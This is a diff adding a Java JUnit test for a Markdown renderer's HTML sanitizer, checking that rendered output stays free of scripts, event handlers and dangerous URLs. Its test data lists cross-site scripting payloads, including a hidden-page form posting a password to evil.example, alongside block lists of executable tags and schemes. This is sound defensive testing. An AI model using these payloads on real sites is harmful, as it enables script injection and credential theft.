@@ -1,0 +1,165 @@
+package org.atrium.platform.text;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Locale;
+import java.util.Set;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Attribute;
+import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.Test;
+
+/** What people write comes out harmless, and whole. */
+class MarkdownTest {
+
+    private static final Set<String> RUNS = Set.of(
+            "script",
+            "iframe",
+            "object",
+            "embed",
+            "svg",
+            "math",
+            "style",
+            "link",
+            "meta",
+            "base",
+            "form",
+            "input",
+            "button",
+            "video",
+            "audio",
+            "template",
+            "frame",
+            "frameset",
+            "applet");
+
+    private static final Set<String> ADDRESSES = Set.of("href", "src", "action", "formaction", "xlink:href", "data");
+
+    private static final List<String> OWN_HOSTILE = List.of(
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "[x](javascript:alert(1))",
+            "[x](JaVaScRiPt&#58;alert(1))",
+            "![x](data:text/html;base64,PHNjcmlwdD4=)",
+            "<a href=\"vbscript:x\" style=\"position:fixed\">x</a>",
+            "<svg/onload=alert(1)>",
+            "```\n<script>alert(1)</script>\n```",
+            "<style>*{display:none}</style><form action=//evil.example><input name=password></form>");
+
+    @Test
+    void nothingOwnRuns() {
+        OWN_HOSTILE.forEach(MarkdownTest::assertHarmless);
+    }
+
+    @Test
+    void nothingHostileRuns() throws IOException {
+        List<Hostile> lines = SharedData.read("hostile.ndjson.gz", Hostile.class);
+        assertThat(lines).hasSizeGreaterThan(3000);
+        lines.forEach(line -> assertHarmless(line.text()));
+    }
+
+    @Test
+    void nothingSafeIsLost() {
+        assertThat(Markdown.html("# A\n\n**b** *c* ~~d~~ `e`\n\n> f\n\n1. g\n\n| h |\n|---|\n| i |"))
+                .contains("<h1>A</h1>", "<strong>b</strong>", "<em>c</em>", "<del>d</del>", "<code>e</code>")
+                .contains("<blockquote>", "<ol>", "<table>", "<td>i</td>");
+        assertThat(Markdown.html("https://example.org/a?b=1&c=2")).contains("href=\"https://example.org/a?b&#61;1");
+    }
+
+    /** Examples of the specification that use nothing but what is allowed come out as the specification says. */
+    @Test
+    void examplesOfTheSpecificationComeOutWhole() throws IOException {
+        List<String> lost = new ArrayList<>();
+        int compared = 0;
+        for (Example example : SharedData.read("commonmark.ndjson.gz", Example.class)) {
+            Document expected = body(example.html());
+            if (isSafe(expected)) {
+                compared++;
+                String actual = words(body(Markdown.html(example.markdown())));
+                if (!actual.equals(words(expected))) {
+                    lost.add(example.markdown() + " -> " + actual + " instead of " + words(expected));
+                }
+            }
+        }
+        assertThat(compared).isGreaterThan(500);
+        assertThat(lost).isEmpty();
+    }
+
+    private static void assertHarmless(String text) {
+        Document html = body(Markdown.html(text));
+        for (Element element : html.body().getAllElements()) {
+            assertThat(RUNS).as(text).doesNotContain(element.normalName());
+            for (Attribute attribute : element.attributes()) {
+                String name = attribute.getKey().toLowerCase(Locale.ROOT);
+                assertThat(name).as(text).doesNotStartWith("on").isNotEqualTo("style");
+                if (ADDRESSES.contains(name)) {
+                    assertThat(attribute
+                                    .getValue()
+                                    .replaceAll("[\\s\\p{Cntrl}]", "")
+                                    .toLowerCase(Locale.ROOT))
+                            .as(text)
+                            .doesNotStartWith("javascript:")
+                            .doesNotStartWith("data:")
+                            .doesNotStartWith("vbscript:");
+                }
+            }
+        }
+    }
+
+    private static Document body(String html) {
+        Document document = Jsoup.parseBodyFragment(html);
+        document.outputSettings().prettyPrint(false);
+        return document;
+    }
+
+    private static final Set<String> PLAIN = Set.of(
+            "body",
+            "p",
+            "br",
+            "hr",
+            "h1",
+            "h2",
+            "h3",
+            "h4",
+            "h5",
+            "h6",
+            "ul",
+            "ol",
+            "li",
+            "blockquote",
+            "pre",
+            "code",
+            "em",
+            "strong",
+            "a",
+            "img");
+
+    private static boolean isSafe(Document html) {
+        return html.body().getAllElements().stream()
+                .allMatch(element -> PLAIN.contains(element.normalName())
+                        && isPlainAddress(element.attr("href"))
+                        && isPlainAddress(element.attr("src")));
+    }
+
+    private static boolean isPlainAddress(String address) {
+        return !address.contains(":") || address.matches("(?i)(https?|mailto):.*");
+    }
+
+    /** The document as text and tags, without what is added to links. */
+    private static String words(Document html) {
+        StringBuilder words = new StringBuilder();
+        html.body().getAllElements().forEach(element -> words.append(element.normalName())
+                .append(' ')
+                .append(element.attr("title"))
+                .append(' '));
+        return words + html.body().wholeText().strip();
+    }
+
+    public record Hostile(String kind, String text) {}
+
+    public record Example(String markdown, String html) {}
+}
